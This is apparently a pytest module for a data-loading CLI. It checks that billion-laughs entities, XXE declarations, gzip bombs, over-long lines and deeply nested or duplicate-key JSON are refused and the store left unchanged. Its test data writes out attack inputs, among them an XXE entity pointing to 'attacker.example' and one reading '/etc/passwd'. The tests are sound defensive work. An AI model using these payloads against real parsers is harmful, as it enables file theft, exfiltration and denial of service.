"""Attacks through loader inputs: files that expand, never end a line, nest without end, or say
one thing twice. Each must be refused with a message naming the file (and the line, row or
record, and the field), exit 1, and leave the store exactly as it was.

Inputs are generated into ``tmp_path`` as each test needs them, and the limits they test are
set small through the flags (``--max-file-bytes 64K``) so that every test takes well under a
second; the defaults are exercised by the attacks that fail fast anyway (a DTD, a gzip of
zeros, deep nesting). docs/loading.md ("Limits") and docs/security.md describe the defences.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from practicebank.cli import main
from practicebank.loaders.limits import (
    InputRefused,
    ReadLimits,
    markdown_table,
    parse_size,
    refuse_xml_declarations,
)
from practicebank.loaders.readers import open_input, read_input
from practicebank.store import PracticeStore

ROOT = Path(__file__).resolve().parents[2]
BASE_TRIPLE = '<https://example.org/s> <https://example.org/p> "kept" .\n'
RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
RDF_BODY = (f'<rdf:RDF xmlns:rdf="{RDF}" xmlns:ex="https://example.org/">\n'
            '  <rdf:Description rdf:about="https://example.org/s"><ex:p>{value}</ex:p>'
            "</rdf:Description>\n</rdf:RDF>\n")
#: Ten levels of ten: &j; would be 10^10 characters (the 1 KB file of the issue).
LAUGHS = '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n <!ENTITY a "lol">\n' + "".join(
    f' <!ENTITY {b} "{("&" + a + ";") * 10}">\n'
    for a, b in zip("abcdefghi", "bcdefghij", strict=True)
) + "]>\n" + RDF_BODY.format(value="&j;")
PRACTICE = {"title": "Safer streets", "rating": "Promising"}


def run(*args, env: dict | None = None):
    return CliRunner().invoke(main, [str(a) for a in args], env=env, catch_exceptions=False)


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """An on-disk store that already holds a graph (graph/base), so "unchanged" means
    something; attacks go into a new graph and into graph/base (a replacement)."""
    path = tmp_path / "store"
    base = tmp_path / "base.nt"
    base.write_text(BASE_TRIPLE, encoding="utf-8")
    assert run("load", base, "--graph", "base", "--store", path).exit_code == 0
    return path


def contents(store: Path) -> list[str]:
    with PracticeStore(store) as opened:
        return sorted(str(quad) for quad in opened.ox)


def refused(result, *needles: str) -> None:
    """Exit 1 with every needle in the output, and no traceback."""
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "Error:" not in result.output, result.output
    for needle in needles:
        assert needle in result.output, (needle, result.output)


def load_refused(store: Path, path: Path, *needles: str, flags=(), graphs=("new", "base"),
                 env: dict | None = None) -> None:
    """``load`` refuses ``path`` into a new graph and in place of graph/base, naming it,
    and the store stays exactly as it was."""
    before = contents(store)
    for graph in graphs:
        result = run("load", path, "--graph", graph, "--store", store, *flags, env=env)
        refused(result, str(path), "not loaded; the store is unchanged", *needles)
        assert contents(store) == before


def gzip_lines(path: Path, line: bytes, total: int) -> Path:
    """A gzip of ``line`` repeated to ``total`` bytes, written a block at a time."""
    block = line * max(1, (1 << 20) // len(line))
    with gzip.open(path, "wb", compresslevel=1) as out:
        written = 0
        while written < total:
            out.write(block)
            written += len(block)
    return path


# -- RDF/XML: DTDs and entities -----------------------------------------------------------------

def test_billion_laughs_is_refused_by_validate(tmp_path):
    laughs = tmp_path / "laughs.rdf"
    laughs.write_text(LAUGHS, encoding="utf-8")
    assert laughs.stat().st_size < 1100
    refused(run("validate", laughs), str(laughs), "line 2", "<!DOCTYPE>", "billion laughs",
            "remove it")


@pytest.mark.parametrize("name", ["laughs.rdf", "laughs.rdf.gz", "laughs.owl"])
def test_billion_laughs_is_refused_by_load(tmp_path, store, name):
    laughs = tmp_path / name
    data = LAUGHS.encode()
    laughs.write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
    load_refused(store, laughs, "<!DOCTYPE>", "billion laughs")
    refused(run("validate", laughs), "<!DOCTYPE>")


@pytest.mark.parametrize("prolog, body", [
    # external parameter entity (the classic out-of-band XXE)
    ('<!DOCTYPE rdf:RDF [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>',
     "x"),
    # external general entity reading a local file
    ('<!DOCTYPE rdf:RDF [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;"),
    # parameter entity that declares an entity
    ('<!DOCTYPE rdf:RDF [<!ENTITY % p "<!ENTITY a \'aaaa\'>"> %p;]>', "&a;"),
    # lower case, after a comment and a processing instruction
    ('<?xml version="1.0"?><!-- hi --><?pi x?><!doctype rdf:RDF [<!entity a "b">]>', "&a;"),
    # an ENTITY declaration with no DOCTYPE around it
    ('<!ENTITY a "aaaa">', "&a;"),
    # a DOCTYPE with no entities at all (PUBLIC, and bare)
    ('<!DOCTYPE rdf:RDF PUBLIC "-//W3C//DTD RDF//EN" "http://www.w3.org/rdf.dtd">', "x"),
    ("<!DOCTYPE rdf:RDF>", "x"),
])
def test_every_dtd_and_entity_form_is_refused(tmp_path, store, prolog, body):
    path = tmp_path / "entities.rdf"
    path.write_text(prolog + "\n" + RDF_BODY.format(value=body), encoding="utf-8")
    load_refused(store, path, "declaration", "RDF/XML needs no DTD")
    refused(run("validate", path), str(path), "declaration")


def test_a_doctype_inside_the_document_is_refused_too(tmp_path, store):
    """Oxigraph expands the entities of a DOCTYPE it meets after the root element, so the
    whole document is checked, not only the prolog."""
    body = RDF_BODY.format(value="&a;").replace(
        "  <rdf:Description", '<!DOCTYPE x [<!ENTITY a "aaaa">]>\n  <rdf:Description')
    path = tmp_path / "inner.rdf"
    path.write_text(body, encoding="utf-8")
    load_refused(store, path, "<!DOCTYPE>", "line 2")


def test_a_declaration_cut_across_two_reads_is_still_found(tmp_path):
    path = tmp_path / "cut.rdf"
    path.write_text(LAUGHS, encoding="utf-8")
    stream = open_input(path, ReadLimits(), xml=True)
    with pytest.raises(InputRefused, match="DOCTYPE"):
        while stream.read(3):  # "<!DOCTYPE" arrives in pieces
            pass
    stream.close()


def test_utf16_rdfxml_is_refused_with_a_reason(tmp_path, store):
    path = tmp_path / "wide.rdf"
    path.write_bytes(('<?xml version="1.0" encoding="UTF-16"?>\n' + LAUGHS).encode("utf-16"))
    load_refused(store, path, "UTF-16", "Save it as UTF-8")


def test_plain_rdfxml_still_loads(tmp_path, store):
    path = tmp_path / "plain.rdf"
    path.write_text('<?xml version="1.0"?>\n<!-- no DTD here: &amp; is predefined -->\n'
                    + RDF_BODY.format(value="fish &amp; chips"), encoding="utf-8")
    result = run("load", path, "--graph", "plain", "--store", store)
    assert result.exit_code == 0, result.output
    assert '"fish & chips"' in "".join(contents(store))


def test_refuse_xml_declarations_for_the_endpoint():
    """The check the Graph Store endpoint runs on an RDF/XML body before parsing it."""
    refuse_xml_declarations(RDF_BODY.format(value="x").encode(), where="the request body")
    refuse_xml_declarations(b"", where="the request body")
    with pytest.raises(ValueError, match=r"^the request body has an XML <!DOCTYPE> .* line 2"):
        refuse_xml_declarations(LAUGHS.encode(), where="the request body")
    with pytest.raises(ValueError, match="<!ENTITY>"):
        refuse_xml_declarations(b'<x/>\n<!eNtItY a "b">', where="the body")
    with pytest.raises(ValueError, match="UTF-16"):
        refuse_xml_declarations("<x/>".encode("utf-16"), where="the body")
    with pytest.raises(ValueError, match="UTF-16"):
        refuse_xml_declarations("<x/>".encode("utf-16-be"), where="the body")  # no BOM


# -- decompression bombs and size ------------------------------------------------------------

def test_gzip_of_zeros_as_ntriples_stops_at_the_first_long_line(tmp_path, store):
    """The issue's 1 MB gzip of 1 GB of zeros took 58 s and 2.2 GB; 64 MiB of zeros show
    the same: it stops after 1 MiB (the default line limit), not after inflating it all."""
    bomb = gzip_lines(tmp_path / "zeros.nt.gz", b"\0" * 4096, 64 << 20)
    load_refused(store, bomb, "Line 1 is longer than 1 MiB", "--max-line-bytes",
                 graphs=("new",))
    load_refused(store, bomb, graphs=("base",))  # Oxigraph, reading 1 KB at a time, stops first
    refused(run("validate", bomb), "Line 1 is longer than 1 MiB")


def test_gzip_that_expands_too_much_is_a_bomb(tmp_path, store):
    """Valid lines, so only the compression ratio stops it (checked after 16 MiB)."""
    bomb = gzip_lines(tmp_path / "same.nt.gz", BASE_TRIPLE.encode(), 20 << 20)
    load_refused(store, bomb, "decompression bomb", "--max-compression-ratio")


@pytest.mark.parametrize("name, line", [
    ("rows.csv.gz", b"Safer streets,Promising\n"),
    ("rows.jsonl.gz", json.dumps(PRACTICE).encode() + b"\n"),
    ("rows.nt.gz", BASE_TRIPLE.encode()),
])
def test_decompressed_size_is_capped(tmp_path, store, name, line):
    path = tmp_path / name
    header = b"title,does_it_work\n" if name.startswith("rows.csv") else b""
    with gzip.open(path, "wb") as out:
        out.write(header + line * (300_000 // len(line)))
    load_refused(store, path, "Larger than 64 KiB once decompressed", "--max-file-bytes",
                 flags=["--max-file-bytes", "64K"])


def test_file_size_is_capped_without_compression(tmp_path, store):
    path = tmp_path / "big.nt"
    path.write_text(BASE_TRIPLE * 3000, encoding="utf-8")
    load_refused(store, path, "Larger than 64 KiB", flags=["--max-file-bytes", "64K"])


def test_limits_come_from_the_environment_too(tmp_path, store):
    path = tmp_path / "big.nt"
    path.write_text(BASE_TRIPLE * 3000, encoding="utf-8")
    load_refused(store, path, "Larger than 64 KiB",
                 env={"PRACTICEBANK_MAX_FILE_BYTES": "64K"})


def test_every_limit_is_documented():
    doc = (ROOT / "docs" / "loading.md").read_text(encoding="utf-8")
    assert markdown_table() in doc, "regenerate the table in docs/loading.md (Limits)"


def test_a_limit_that_is_not_a_size_is_a_usage_error(tmp_path):
    path = tmp_path / "x.nt"
    path.write_text(BASE_TRIPLE, encoding="utf-8")
    result = run("validate", path, "--max-file-bytes", "lots")
    assert result.exit_code == 2 and "is not a size" in result.output
    assert parse_size("4G") == 4 << 30 and parse_size("128KiB") == 128 << 10


# -- over-long lines -------------------------------------------------------------------------

@pytest.mark.parametrize("name, text, where", [
    ("long.nt", BASE_TRIPLE + '<https://example.org/s> <https://example.org/p> "'
     + "x" * 5000 + '" .\n', "line 2"),
    ("long.nq", BASE_TRIPLE + "x" * 5000, "line 2"),
    ("long.jsonl", json.dumps(PRACTICE) + "\n" + json.dumps({"title": "x" * 5000}) + "\n",
     "line 2"),
    ("long.csv", "title,summary\nA,short\nB," + "x" * 5000 + "\n", "line 3"),
])
def test_an_overlong_line_is_refused(tmp_path, store, name, text, where):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    load_refused(store, path, where, "longer than 4 KiB", "--max-line-bytes",
                 flags=["--max-line-bytes", "4K"])
    refused(run("validate", path, "--max-line-bytes", "4K"), str(path), where)


def test_a_file_without_line_breaks_is_refused_at_the_default(tmp_path, store):
    """The 2 GB one-line CSV of the issue, at 3 MiB: stopped after 1 MiB."""
    path = tmp_path / "one-line.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write('title,summary\nA,"')
        for _ in range(3):
            out.write("x" * (1 << 20))
    load_refused(store, path, "Line 2 is longer than 1 MiB", graphs=("new",))


# -- CSV rows and cells ----------------------------------------------------------------------

def test_extra_csv_cells_are_an_error_naming_row_and_surplus(tmp_path, store):
    path = tmp_path / "extra.csv"
    path.write_text("title,does_it_work\nSafer streets,Promising\n"
                    "Knife crime, youth diversion,Promising\n", encoding="utf-8")
    load_refused(store, path, "row 3", "3 cells but there are 2 headings",
                 '"Promising"', "Quote any cell that holds a comma")
    refused(run("validate", path, "--report", "json"), '"row": 3')


def test_a_huge_csv_cell_names_row_and_column(tmp_path, store):
    """The issue's 1 MB cell ended in a bare _csv.Error traceback."""
    path = tmp_path / "cell.csv"
    path.write_text('title,summary\nSafer streets,fine\nKnife crime,"'
                    + "x" * 1_000_000 + '"\n', encoding="utf-8")
    load_refused(store, path, "row 3, column summary", "A cell of 1,000,000 characters",
                 "longer than 128 KiB")
    refused(run("validate", path), "row 3, column summary")


def test_a_quote_left_open_stops_at_the_row_limit(tmp_path, store):
    """Many short lines inside one quoted cell: each line is short, the row is not."""
    path = tmp_path / "open-quote.csv"
    path.write_text('title,summary\nSafer streets,"never closed\n' + "more text\n" * 20_000,
                    encoding="utf-8")
    load_refused(store, path, "Row 2 is longer than 64 KiB", "check the quotes",
                 flags=["--max-record-bytes", "64K"])


# -- JSON: duplicate keys, nesting, huge records ----------------------------------------------

def test_duplicate_json_keys_name_record_and_key(tmp_path, store):
    path = tmp_path / "dup.json"
    path.write_text('[{"title": "Safer streets"},\n {"title": "A", "rating": "Promising", '
                    '"title": "B"}]', encoding="utf-8")
    load_refused(store, path, "record 2", 'The key "title" appears twice', "pointer /1")


def test_duplicate_keys_in_json_lines_and_nested_objects(tmp_path, store):
    path = tmp_path / "dup.jsonl"
    path.write_text(json.dumps(PRACTICE) + '\n{"title": "x", "extra": {"a": 1, "a": 2}}\n',
                    encoding="utf-8")
    load_refused(store, path, "line 2", 'The key "a" appears twice')


def test_duplicate_keys_in_a_force_document(tmp_path, store):
    path = tmp_path / "force.json"
    path.write_text('{"id": "kent", "name": "Kent Police", "url": "https://a.example", '
                    '"url": "https://b.example"}', encoding="utf-8")
    load_refused(store, path, 'The key "url" appears twice')


@pytest.mark.parametrize("name, text, where", [
    ("deep.json", "[" * 100_000 + "]" * 100_000, "record 1"),
    ("deep-object.json", '{"a": ' * 100_000 + "1" + "}" * 100_000, "deep-object.json"),
    ("deep-record.json", '[{"title": "x"}, {"title": "y", "notes": ' + "[" * 100_000
     + "]" * 100_000 + "}]", "record 2"),
    ("deep.jsonl", json.dumps(PRACTICE) + "\n" + '{"a": ' * 100_000 + "1" + "}" * 100_000,
     "line 2"),
    ("unclosed.json", "[" * 100_000, "record 1"),
])
def test_deep_json_nesting_is_refused_before_parsing(tmp_path, store, name, text, where):
    """100,000 levels ended in a RecursionError traceback."""
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    load_refused(store, path, where, "nested more than 64 levels deep", "--max-json-depth",
                 flags=["--max-line-bytes", "1M"])
    refused(run("validate", path), where, "nested more than 64 levels")


def test_json_depth_limit_is_a_setting(tmp_path, store):
    path = tmp_path / "records.json"
    path.write_text(json.dumps([PRACTICE]), encoding="utf-8")  # 2 levels
    load_refused(store, path, "nested more than 1 levels deep", flags=["--max-json-depth", "1"])


def test_one_huge_record_in_a_json_array(tmp_path, store):
    path = tmp_path / "huge.json"
    with path.open("w", encoding="utf-8") as out:
        out.write(json.dumps([PRACTICE, PRACTICE])[:-1])  # drop the "]"
        out.write(', {"title": "' + "x" * 300_000 + '"}, ' + json.dumps(PRACTICE) + "]")
    load_refused(store, path, "record 3", "A JSON value larger than 64 KiB",
                 "--max-record-bytes", flags=["--max-record-bytes", "64K"])


def test_a_big_json_document_that_is_not_records_is_capped(tmp_path, store):
    """A forces list is read whole (its shape needs every item), so it is held to the
    record limit in all."""
    path = tmp_path / "forces.json"
    path.write_text(json.dumps([{"id": f"force-{n}", "name": f"Force {n}"}
                                for n in range(5000)]), encoding="utf-8")
    load_refused(store, path, "larger than 64 KiB", flags=["--max-record-bytes", "64K"])


# -- the readers still read real input --------------------------------------------------------

def test_streamed_json_reads_what_json_load_reads(tmp_path):
    """Records across many windows, strings with brackets, quotes and escapes in them."""
    records = [{"title": f"Practice {n} [draft] {{v{n}}}", "summary": 'say "hi" \\ ]}' * n,
                "topics": ["Knife crime", "Anti-social behaviour"]} for n in range(300)]
    path = tmp_path / "many.json"
    path.write_text(json.dumps(records, indent=1), encoding="utf-8")
    _, conversion = read_input(path)
    assert not [p for p in conversion.problems if p.is_error]
    titles = {str(node) for node in conversion.graph.objects()
              if str(node).startswith("Practice ")}
    assert titles == {r["title"] for r in records}


def test_reading_a_bounded_stream_gives_the_bytes(tmp_path):
    path = tmp_path / "data.nt.gz"
    data = BASE_TRIPLE.encode() * 5000
    path.write_bytes(gzip.compress(data))
    with open_input(path, ReadLimits(), lines=True) as stream:
        assert stream.read() == data
